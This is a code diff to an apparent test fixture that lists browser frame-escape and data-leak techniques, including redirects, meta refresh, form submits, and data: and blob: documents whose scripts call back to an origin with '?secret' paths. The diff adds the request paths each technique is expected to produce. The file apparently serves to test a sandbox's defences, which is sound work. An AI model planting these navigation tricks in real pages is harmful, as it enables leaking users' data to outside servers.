@@ -7,6 +7,7 @@ export const NAVIGATION_ATTACKS: readonly Attack[] = [
     run: ({ origin }) => {
       location.href = `${origin}/location?secret`;
     },
+    arrives: ['/location?secret'],
   },
   {
     name: 'a meta refresh',
@@ -16,6 +17,7 @@ export const NAVIGATION_ATTACKS: readonly Attack[] = [
         `<meta http-equiv="refresh" content="0;url=${origin}/refresh?secret">`,
       );
     },
+    arrives: ['/refresh?secret'],
   },
   {
     name: 'a click on a link',
@@ -24,6 +26,7 @@ export const NAVIGATION_ATTACKS: readonly Attack[] = [
       document.body.append(link);
       link.click();
     },
+    arrives: ['/link?secret'],
   },
   {
     name: 'a form in the frame itself',
@@ -32,12 +35,14 @@ export const NAVIGATION_ATTACKS: readonly Attack[] = [
       document.body.append(form);
       form.submit();
     },
+    arrives: ['GET /form?'],
   },
   {
     name: 'a data: document that calls out',
     run: ({ origin }) => {
       location.href = `data:text/html,<script>fetch("${origin}/from-data");new Image().src="${origin}/data-image"</script>`;
     },
+    arrives: ['/from-data', '/data-image'],
   },
   {
     name: 'a blob: document that calls out',
@@ -45,12 +50,14 @@ export const NAVIGATION_ATTACKS: readonly Attack[] = [
       const text = `<script>fetch("${origin}/from-blob");new Image().src="${origin}/blob-image"</script>`;
       location.href = URL.createObjectURL(new Blob([text], { type: 'text/html' }));
     },
+    arrives: ['/from-blob', '/blob-image'],
   },
   {
     name: 'the site itself, which could be framed and scripted',
     run: () => {
       location.href = '/';
     },
+    arrives: ['GET / '],
   },
   {
     name: 'a document written over its own that calls out',
@@ -59,6 +66,7 @@ export const NAVIGATION_ATTACKS: readonly Attack[] = [
       document.write(`<img src="${origin}/written"><script src="${origin}/written.js"></` + `script>`);
       document.close();
     },
+    arrives: ['/written ', '/written.js'],
   },
 ];
 
@@ -73,6 +81,7 @@ export const FRAME_ATTACKS: readonly Attack[] = [
       return new Promise((resolve) => setTimeout(resolve, 500, 'inserted'));
     },
     outcome: 'inserted',
+    arrives: ['/nested?secret'],
   },
   {
     name: 'a nested frame that navigates itself',
@@ -82,6 +91,7 @@ export const FRAME_ATTACKS: readonly Attack[] = [
       return new Promise((resolve) => setTimeout(resolve, 500, 'inserted'));
     },
     outcome: 'inserted',
+    arrives: ['/nested-refresh?secret'],
   },
   {
     name: 'a nested frame that is navigated from outside',
@@ -92,6 +102,7 @@ export const FRAME_ATTACKS: readonly Attack[] = [
       return new Promise((resolve) => setTimeout(resolve, 500, 'set'));
     },
     outcome: 'TypeError', // there is no frame
+    arrives: ['/nested-location?secret'],
   },
 ];
 
